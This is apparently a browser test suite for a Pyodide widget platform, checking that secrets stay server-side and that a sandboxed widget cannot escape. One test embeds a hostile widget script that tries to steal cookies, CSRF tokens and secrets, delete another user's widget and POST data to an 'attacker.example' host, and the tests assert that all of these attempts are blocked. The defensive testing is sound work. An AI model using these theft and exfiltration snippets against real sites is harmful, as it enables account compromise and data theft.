"""GUI widgets in real Chromium: Pyodide boots in the sandboxed frame, client code calls server
functions that use secrets (through the real bubblewrap runner), secrets stay out of the browser,
and an "evil" widget can't reach the viewer's cookies, CSRF token, account or widgets.

Each test boots Pyodide once (a few seconds) and makes all its checks on that page.
"""

import json
import re

import pytest
from flask import request
from playwright.sync_api import expect

from pyspace.extensions import db
from pyspace.models import Secret, User, Widget
from pyspace.secrets import vault
from tests.browser.conftest import sign_up

# Pyodide's start takes seconds, but can take over a minute on a machine busy with other test
# runs; only a boot that never ends waits this long (a failed one ends the wait at once).
BOOT_TIMEOUT_MS = 120_000
API_KEY = "sk-test-4f9a0c2e7b1d"  # 20 characters

SECRET_SERVER_CODE = """\
import time

import anvil.secrets
import anvil.server


@anvil.server.callable
def key_length():
    time.sleep(1.5)  # long enough for the test to see the spinner, even on a loaded machine
    return len(anvil.secrets.get_secret("api_key"))


@anvil.server.callable
def echo_key():
    return {"key": anvil.secrets.get_secret("api_key")}


@anvil.server.callable
def hello(name):
    return f"Hello, {name}!"


@anvil.server.callable
def fail(reason):
    raise ValueError(f"cannot do that: {reason}")
"""

SECRET_CLIENT_CODE = """\
import anvil.server
from js import document

print("client code started")


def show(element_id, text):
    document.getElementById(element_id).textContent = text


show("greeting", anvil.server.call("hello", "top level"))


def on_length(event):
    show("length", f"Key length: {anvil.server.call('key_length')}")


def on_echo(event):
    show("echo", f"Echoed: {anvil.server.call('echo_key')['key']}")


def on_client_secret(event):
    import anvil.secrets
    show("client-secret", anvil.secrets.get_secret("api_key"))


def on_error(event):
    try:
        anvil.server.call("fail", "on purpose")
    except ValueError as error:
        show("error", f"{type(error).__name__}: {error}")


def on_blocking(event):
    show("blocking", anvil.server.call("hello", "blocking"))


for button_id, handler in [("length-btn", on_length), ("echo-btn", on_echo),
                           ("client-secret-btn", on_client_secret), ("error-btn", on_error)]:
    document.getElementById(button_id).addEventListener("click", handler)


def removed_handler(event):
    print("a removed handler ran")


# Python handlers can be removed again, like JavaScript ones.
document.getElementById("length-btn").addEventListener("click", removed_handler)
document.getElementById("length-btn").removeEventListener("click", removed_handler)
# A handler JavaScript calls directly (not through addEventListener) can't wait on a promise:
# the call falls back to a synchronous request, as in browsers without JSPI.
document.getElementById("blocking-btn").onclick = on_blocking
"""

SECRET_HTML = """\
<h3>Key checker</h3>
<div role="group">
  <button id="length-btn">Key length</button>
  <button id="echo-btn" class="secondary">Echo key</button>
  <button id="client-secret-btn" class="secondary">Secret in client</button>
  <button id="error-btn" class="contrast">Fail</button>
  <button id="blocking-btn" class="outline">Blocking call</button>
</div>
<p id="greeting"></p><p id="length"></p><p id="echo"></p><p id="client-secret"></p>
<p id="error"></p>
<p id="blocking"></p>
"""

EVIL_CLIENT_CODE = """\
import json
from js import Object, XMLHttpRequest, document, fetch, window
from pyodide.ffi import to_js

TARGET = "{target}"
report = {{}}


def attempt(name, action):
    try:
        report[name] = "got: " + str(action())[:300]
    except Exception as error:
        report[name] = blocked(error)


def blocked(error):
    return "blocked: " + (str(error).splitlines() or [type(error).__name__])[0][:200]


def read_home_page_with_cookies():
    xhr = XMLHttpRequest.new()
    xhr.open("GET", "/", False)
    xhr.withCredentials = True
    xhr.send()
    return xhr.responseText


attempt("document.cookie", lambda: document.cookie)
attempt(
    "parent page's CSRF token",
    lambda: window.parent.document.querySelector("meta[name=csrf-token]").content,
)
attempt("top page's cookie", lambda: window.top.document.cookie)
attempt("localStorage", lambda: window.localStorage.getItem("anything"))
attempt("GET / with cookies (XHR)", read_home_page_with_cookies)

requests = [
    ("GET the viewer's secrets", f"/widgets/{{TARGET}}/secrets", {{"credentials": "include"}}),
    ("POST delete the viewer's widget", f"/widgets/{{TARGET}}/delete",
     {{"method": "POST", "credentials": "include", "mode": "no-cors"}}),
    ("call another widget's functions", f"/widgets/{{TARGET}}/call/anything",
     {{"method": "POST", "body": "{{}}"}}),
    ("send data off-site", "https://attacker.example/steal",
     {{"method": "POST", "mode": "no-cors"}}),
]
for name, url, options in requests:
    try:
        response = await fetch(url, to_js(options, dict_converter=Object.fromEntries))
        report[name] = f"got: {{response.status}} {{(await response.text())[:300]}}"
    except Exception as error:
        report[name] = blocked(error)

# A form post needs no script-readable answer; the sandbox (no allow-forms) and the CSP's
# form-action 'none' stop it. The test checks the widget survived.
form = document.createElement("form")
form.method = "post"
form.action = f"/widgets/{{TARGET}}/delete"
document.body.appendChild(form)
form.submit()

document.getElementById("report").textContent = json.dumps(report)
"""

EVIL_HTML = """\
<h3>Totally harmless widget</h3>
<p id="report">working…</p>
<img alt="" src="data:image/png;base64,broken" onerror="document.title = 'inline handler ran'">
<script>document.title = "inline script ran";</script>
"""


def add_widget(app, owner, title, secrets=None, **fields):
    """A GUI widget owned by `owner`, with `secrets` ({name: value}) encrypted in the vault."""
    with app.app_context():
        owner_id = db.session.scalar(db.select(User.id).filter_by(username=owner))
        widget = Widget(owner_id=owner_id, title=title, kind="gui", **fields)
        db.session.add(widget)
        db.session.flush()
        for name, value in (secrets or {}).items():
            db.session.add(
                Secret(widget_id=widget.id, name=name, ciphertext=vault.encrypt_value(value))
            )
        db.session.commit()
        return widget.id


def booted_frame(page):
    """The widget's frame, once Pyodide has started and the client code's top level has run."""
    frame = page.frame_locator("iframe[data-gui-frame]")
    root = frame.locator("html")
    # The frame marks a boot that gave up "failed": stop waiting then, and show why.
    expect(root).to_have_attribute(
        "data-pyspace", re.compile("ready|failed"), timeout=BOOT_TIMEOUT_MS
    )
    if root.get_attribute("data-pyspace") == "failed":
        console = frame.locator("#pyspace-console-output").inner_text()
        status = frame.locator("#pyspace-status").inner_text()
        pytest.fail(f"The widget's frame could not boot ({status}):\n{console}")
    return frame


def press_echo_secret_and_fail(frame, console):
    """The key checker's buttons that must not reveal the secret, and its failing call."""
    # A server function that returns the secret itself: this anonymous visitor gets the whole
    # answer withheld (where a mask fell would tell them something); the owner would see ***.
    frame.get_by_role("button", name="Echo key").click()
    expect(console).to_contain_text("Output hidden: it contained a secret value")
    expect(frame.locator("#echo")).to_have_text("")

    frame.get_by_role("button", name="Secret in client").click()
    expect(console).to_contain_text(
        "SecretsUnavailableError: Secrets are only available in server code."
    )
    expect(frame.locator("#client-secret")).to_have_text("")

    frame.get_by_role("button", name="Fail").click()
    expect(frame.locator("#error")).to_have_text("ValueError: cannot do that: on purpose")


def test_client_code_calls_a_secret_using_server_function_but_never_sees_the_secret(
    app, page, screenshot, make_user
):
    make_user("alice")
    widget_id = add_widget(
        app,
        "alice",
        "Key checker",
        visibility="public",
        secrets={"api_key": API_KEY},
        server_code=SECRET_SERVER_CODE,
        client_code=SECRET_CLIENT_CODE,
        html=SECRET_HTML,
    )
    responses = []
    page.on(
        "response",
        lambda response: responses.append(response) if "/static/" not in response.url else None,
    )

    page.goto(f"/widgets/{widget_id}")
    frame = booted_frame(page)
    console = frame.locator("#pyspace-console-output")
    expect(console).to_contain_text("client code started")  # print() goes to the console pane
    expect(frame.locator("#greeting")).to_have_text("Hello, top level!")  # a call at the top level

    frame.get_by_role("button", name="Key length").click()
    expect(
        frame.locator("#pyspace-busy")
    ).to_be_visible()  # the spinner, while the call is in flight
    expect(frame.locator("#length")).to_have_text(f"Key length: {len(API_KEY)}")
    expect(frame.locator("#pyspace-busy")).to_be_hidden()
    expect(console).not_to_contain_text("a removed handler ran")

    press_echo_secret_and_fail(frame, console)

    frame.get_by_role("button", name="Blocking call").click()
    expect(frame.locator("#blocking")).to_have_text("Hello, blocking!")
    screenshot("gui-widget-secret-calls")

    assert API_KEY not in page.content()
    assert API_KEY not in frame.locator("html").inner_html()
    # Every document and answer the browser received, the call answers included.
    bodies = {
        response.url: response.text()
        for response in responses
        if response.request.method != "OPTIONS"
    }
    assert f"{page.url}/call/key_length" in bodies and f"{page.url}/frame" in bodies
    assert [url for url, body in bodies.items() if API_KEY in body] == []


def test_evil_widget_cannot_reach_the_viewers_cookies_account_or_widgets(
    app, page, screenshot, make_user
):
    requested = []
    app.before_request(lambda: requested.append(request.path))
    make_user("mallory")
    sign_up(page, "bob")
    bob_widget = add_widget(
        app,
        "bob",
        "Bob's private widget",
        visibility="private",
        secrets={"bank_token": "bob-bank-token-value"},
    )
    evil_widget = add_widget(
        app,
        "mallory",
        "Harmless",
        visibility="public",
        html=EVIL_HTML,
        client_code=EVIL_CLIENT_CODE.format(target=bob_widget),
    )

    page.goto(f"/widgets/{evil_widget}")
    frame = booted_frame(page)
    expect(frame.locator("#report")).to_contain_text("{", timeout=BOOT_TIMEOUT_MS)
    report = json.loads(frame.locator("#report").text_content())
    screenshot("gui-widget-evil")

    assert set(report) == {
        "document.cookie",
        "parent page's CSRF token",
        "top page's cookie",
        "localStorage",
        "GET / with cookies (XHR)",
        "GET the viewer's secrets",
        "POST delete the viewer's widget",
        "call another widget's functions",
        "send data off-site",
    }
    not_blocked = {
        name: outcome for name, outcome in report.items() if not outcome.startswith("blocked")
    }
    assert not_blocked == {}
    # The widget's own inline script and event-handler attributes never ran (CSP).
    assert "ran" not in page.frames[1].title()

    # The CSP stopped every attempt before it left the browser: the server saw none of them.
    assert [path for path in requested if path.startswith(f"/widgets/{bob_widget}")] == []
    # The viewer's data is untouched and the viewer is still logged in, on the same page.
    assert page.url.endswith(f"/widgets/{evil_widget}")
    with app.app_context():
        widget = db.session.get(Widget, bob_widget)
        assert widget is not None and widget.title == "Bob's private widget"
        assert [(s.name, vault.decrypt_value(s.ciphertext)) for s in widget.secrets] == [
            ("bank_token", "bob-bank-token-value")
        ]
    page.goto("/")
    expect(page.locator(".site-header")).to_contain_text("bob")


def test_frame_url_opened_directly_is_still_an_opaque_origin(app, page, make_user):
    make_user("alice")
    sign_up(page, "bob")
    widget_id = add_widget(app, "alice", "Direct", visibility="public", html="<p id=x>hi</p>")
    page.goto(f"/widgets/{widget_id}/frame")  # no need to wait for Python: the origin is set now
    probe = page.evaluate("""() => {
        let cookie;
        try { cookie = "got: " + document.cookie; }
        catch (error) { cookie = "blocked: " + error.name; }
        return {origin: self.origin, cookie: cookie};
    }""")
    assert probe == {"origin": "null", "cookie": "blocked: SecurityError"}


def test_owner_previews_a_private_gui_widget_in_the_editor(app, page, screenshot):
    sign_up(page, "alice")
    page.goto("/widgets/new")
    page.get_by_label("Title").fill("Greeter")
    page.locator("input[name=kind][value=gui]").check()
    page.get_by_role("button", name="Create widget").click()
    page.wait_for_url("**/edit")

    # The starter GUI widget, private: its frame loads because the owner's browser asked for it.
    frame = booted_frame(page)
    frame.get_by_placeholder("Your name").fill("Ada")
    frame.get_by_role("button", name="Greet me").click()
    expect(frame.locator("#out")).to_have_text("Hello, Ada!")
    screenshot("gui-widget-editor-preview")
